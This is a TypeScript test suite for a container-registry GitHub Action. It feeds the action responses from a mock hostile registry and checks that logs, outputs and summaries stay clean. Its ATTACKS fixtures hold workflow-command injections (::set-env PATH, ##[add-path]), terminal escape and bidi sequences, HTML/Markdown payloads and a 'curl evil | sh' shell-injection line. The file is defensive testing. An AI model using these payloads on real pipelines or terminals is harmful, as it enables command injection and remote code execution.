import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type RunResult, runBundle } from '../support/bundle.ts';
import { image, index } from '../support/images.mjs';
import { readSummary } from '../support/markdown.ts';
import { startRegistry } from '../support/registry.mjs';

type Registry = Awaited<ReturnType<typeof startRegistry>>;
type Answer = ReturnType<NonNullable<NonNullable<Parameters<typeof startRegistry>[0]>['intercept']>>;

/** Everything that would do harm as it stands: commands of both forms, escape sequences, reordering, shell, Markdown. */
const ATTACKS = [
	'\n::set-output name=x::y',
	'\r\n::add-mask::found',
	'\n  ::error title=evil::injected',
	'\n::stop-commands::evil',
	'\u2028::set-env name=PATH::/evil',
	'##[error]injected',
	'##[add-path]/evil',
	'%0A::warning::injected',
	'\u001b[2K\u001b[1A\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u009b31m',
	'\u202eevil\u202c\u2066x\u2069\u200b\ufeff',
	'"; curl evil | sh; echo $(id) `id` \'',
	'<script>alert(1)</script> <img src=x> [link](https://evil.example) | cell | @octocat',
	'\u0000\u0007\u0008',
];
const ATTACK = ATTACKS.join(' ');
/** For a header, where line breaks cannot stand and Latin-1 is all there is. */
const HEADER_ATTACK = '::set-output name=x::y ##[error]injected $(id) `id` "quoted" \u009b31m';

const FORBIDDEN = /[\p{Cc}\p{Cf}\u2028\u2029]/u;
const ALLOWED = /^[A-Za-z0-9 ._:/@+=,-]*$/;

/** Every text inside of some JSON, names of members included. */
function textsIn(value: unknown): string[] {
	if (typeof value === 'string') {
		return [value];
	}
	return typeof value === 'object' && value !== null ? Object.entries(value).flat().flatMap(textsIn) : [];
}

function assertHarmless(result: RunResult): void {
	const { stdout, stderr, commands, outputs, summary, files, report } = result;
	for (const line of `${stdout}\n${stderr}`.split('\n')) {
		assert.doesNotMatch(line, FORBIDDEN);
	}
	assert.equal(stderr, '');
	for (const { name, properties, message } of commands) {
		const isOurs =
			name === 'debug' ? /^(HEAD|GET) http/.test(message) : /^Tagscout(: [a-z -]+)?$/.test(properties['title'] ?? '');
		assert.ok(isOurs || name === 'add-mask', `a command of somebody else: ${name} ${message}`);
		assert.doesNotMatch(message, FORBIDDEN);
		assert.ok(name !== 'add-mask' || message !== 'found', 'a mask of somebody else');
	}
	assert.equal(outputs['x'], undefined);
	for (const name of ['GITHUB_ENV', 'GITHUB_PATH', 'GITHUB_STATE']) {
		assert.equal(files[name], '');
	}
	const { json = '', matrix = '', tags = '', missing = '', ...texts } = outputs;
	for (const [name, text] of Object.entries(texts)) {
		assert.match(text, ALLOWED, name);
	}
	for (const text of [
		...missing.split('\n'),
		...textsIn(JSON.parse(json)),
		...textsIn(JSON.parse(matrix)),
		...textsIn(JSON.parse(tags || '[]')),
	]) {
		assert.match(text, ALLOWED);
	}
	for (const text of textsIn(JSON.parse(report ?? ''))) {
		assert.doesNotMatch(text, FORBIDDEN);
	}
	// It throws where anything has become markup of a table.
	readSummary(summary);
	const [table = ''] = /<table>\n.*?<\/table>\n/s.exec(summary) ?? [];
	assert.doesNotMatch(table, /@octocat|https:\/\/evil/i);
	const rest = summary.replace(table, '').replace(/<\/?(?:sub|details|summary)>|(?<=^- .*)<br>/gm, '');
	assert.doesNotMatch(rest, /<[a-z/]|[^\\]\]\(|[^\\`]@octocat|https:\/\/evil/i);
	for (const line of summary.split('\n')) {
		// A word joiner keeps GitHub from making links of what is none.
		assert.doesNotMatch(line.replaceAll('\u2060', ''), FORBIDDEN);
	}
}

const BODIES: readonly { readonly name: string; readonly answer: Answer }[] = [
	{ name: 'a 403 with a message', answer: { status: 403, body: errors(ATTACK, ATTACK) } },
	{ name: 'a 403 of plain text', answer: { status: 403, body: ATTACK } },
	{ name: 'a 404 with a message', answer: { status: 404, body: errors('MANIFEST_UNKNOWN', ATTACK) } },
	{ name: "a 404 of Docker Hub's form", answer: { status: 404, body: { details: ATTACK } } },
	{ name: 'a 418 with a message', answer: { status: 418, body: { message: ATTACK } } },
	{
		name: 'a 429 with a message and years to wait',
		answer: { status: 429, headers: { 'retry-after': '99999999' }, body: errors('TOOMANYREQUESTS', ATTACK) },
	},
	{ name: 'HTML', answer: { status: 200, headers: { 'content-type': 'text/html' }, body: `<html>${ATTACK}</html>` } },
	{ name: 'text in the place of a manifest', answer: { status: 200, body: ATTACK } },
	{
		name: 'headers',
		answer: {
			status: 200,
			headers: {
				'content-type': HEADER_ATTACK,
				'docker-content-digest': HEADER_ATTACK,
				'last-modified': HEADER_ATTACK,
				warning: `299 - "${HEADER_ATTACK.replaceAll('"', '\\"')}"`,
			},
			body: { schemaVersion: 2, mediaType: ATTACK, manifests: [] },
		},
	},
	{
		name: 'a challenge',
		answer: {
			status: 401,
			headers: { 'www-authenticate': `Bearer realm="http://127.0.0.1:1/${HEADER_ATTACK}",service="${HEADER_ATTACK}"` },
			body: errors('UNAUTHORIZED', ATTACK),
		},
	},
	{
		name: 'a redirect',
		answer: { status: 307, headers: { location: `https://evil.example/${HEADER_ATTACK}` } },
	},
	{ name: 'a redirect to no address', answer: { status: 307, headers: { location: `https://[${HEADER_ATTACK}` } } },
	{
		name: 'an encoding',
		answer: { status: 200, headers: { 'content-encoding': HEADER_ATTACK }, body: 'x' },
	},
];

function errors(code: string, message: string) {
	return { errors: [{ code, message, detail: ATTACK }] };
}

/** An image all of whose texts are attacks. */
function pushHostileImage(registry: Registry): void {
	const labels = Object.fromEntries(ATTACKS.map((attack, number) => [`${number}${attack}`, attack]));
	const annotations = { 'org.opencontainers.image.created': ATTACK, [ATTACK]: ATTACK };
	const hostile = image({ os: ATTACK, architecture: ATTACK, variant: ATTACK, created: ATTACK, labels, annotations });
	registry.push('team/app', 'index', index([hostile], { annotations }));
	registry.push('team/app', 'image', hostile);
	registry.push('team/app', 'labels', image({ labels }));
}

describe('a hostile registry', () => {
	for (const { name, answer } of BODIES) {
		for (const mode of ['exists', 'inspect']) {
			it(`${mode}, ${name}: no command in the log, nothing but harmless letters in the outputs`, async () => {
				const registry = await startRegistry({ intercept: () => answer });
				try {
					const inputs = { mode, image: `${registry.host}/team/app:1.0`, timeout: '30s' };
					const result = await runBundle(inputs, { debug: true });
					assertHarmless(result);
					assert.ok(registry.count() > 0);
				} finally {
					await registry.close();
				}
			});
		}
	}

	const lists: readonly { readonly name: string; readonly answer: Answer; readonly status: string }[] = [
		{
			name: 'tags',
			answer: {
				status: 200,
				body: { tags: [...ATTACKS, ...ATTACKS.map((attack) => `9.0.0${attack}`), '1.0.0', '1.1.0'] },
			},
			status: 'found',
		},
		{ name: 'an error', answer: { status: 403, body: errors(ATTACK, ATTACK) }, status: 'denied' },
		{
			name: 'a Link',
			answer: {
				status: 200,
				headers: { link: `<https://evil.example/${HEADER_ATTACK}>; rel="next"` },
				body: { tags: [] },
			},
			status: 'error',
		},
	];
	for (const { name, answer, status } of lists) {
		it(`latest, ${name} of a tag list: no command in the log, nothing but harmless letters in the outputs`, async () => {
			const registry = await startRegistry({ intercept: ({ kind }) => (kind === 'tags' ? answer : undefined) });
			try {
				for (const tag of ['1.0.0', '1.1.0']) {
					registry.push('team/app', tag, image());
				}
				const inputs = { mode: 'latest', image: `${registry.host}/team/app:1.0.0` };
				const result = await runBundle(inputs, { debug: true });
				assertHarmless(result);
				assert.equal(result.outputs['status'], status);
				assert.equal(result.outputs['latest-tag'], status === 'found' ? '1.1.0' : '');
			} finally {
				await registry.close();
			}
		});
	}

	for (const tag of ['index', 'image', 'labels']) {
		it(`an ${tag} of hostile platforms, dates, labels and annotations: no command in the log, harmless outputs`, async () => {
			const registry = await startRegistry();
			try {
				pushHostileImage(registry);
				const image = `${registry.host}/team/app:${tag}`;
				for (const inputs of [
					{ mode: 'inspect', image },
					{ mode: 'inspect', image, platforms: 'linux/arm64' },
					{ image, platforms: 'linux/arm64' },
				]) {
					assertHarmless(await runBundle(inputs, { debug: true }));
				}
			} finally {
				await registry.close();
			}
		});
	}

	it('labels still say what they said, without what would do harm', async () => {
		const registry = await startRegistry();
		try {
			const labels = { title: 'A "good" app\n::set-output name=x::y', __proto__own: 'kept' };
			registry.push('team/app', '1.0', image({ labels }));
			const { images, report } = await runBundle({ mode: 'inspect', image: `${registry.host}/team/app:1.0` });
			assert.deepEqual(images[0]?.labels, { title: 'A good app ::set-output name=x::y', __proto__own: 'kept' });
			assert.equal(JSON.parse(report ?? '')[0].labels.title, 'A "good" app ::set-output name=x::y');
		} finally {
			await registry.close();
		}
	});

	it('100,000 labels and 20,000 platforms: no output is above 96 KiB, and a warning says what was left out', async () => {
		const registry = await startRegistry();
		try {
			const numbers = Array.from({ length: 100_000 }, (_, number) => number);
			const labels = Object.fromEntries(numbers.map((number) => [`label-${number}`, '##[error]injected']));
			const platforms = numbers.slice(0, 20_000).map((number) => ({ os: 'linux', architecture: `a${number}` }));
			const only = image();
			registry.push('team/app', 'labels', image({ labels }));
			registry.push('team/app', 'platforms', index(platforms.map((platform) => ({ ...only, platform }))));
			for (const tag of ['labels', 'platforms']) {
				const result = await runBundle({ mode: 'inspect', image: `${registry.host}/team/app:${tag}` });
				assertHarmless(result);
				assert.equal(result.exitCode, 0);
				assert.ok(Object.values(result.outputs).every((output) => Buffer.byteLength(output) <= 96 * 1024));
				assert.ok(result.annotations.some(({ level, message }) => level === 'warning' && message.includes('`json`')));
			}
		} finally {
			await registry.close();
		}
	});

	it('hostile lines of the inputs are refused in one clean line', async () => {
		const result = await runBundle({ image: `alpine\n::set-output name=x::y\n##[error]injected\n\u001b[31m\u202e` });
		assert.equal(result.exitCode, 1);
		assert.deepEqual(
			result.commands.map(({ name }) => name),
			['error'],
		);
		assert.doesNotMatch(result.stdout.replaceAll('\n', ''), FORBIDDEN);
	});
});
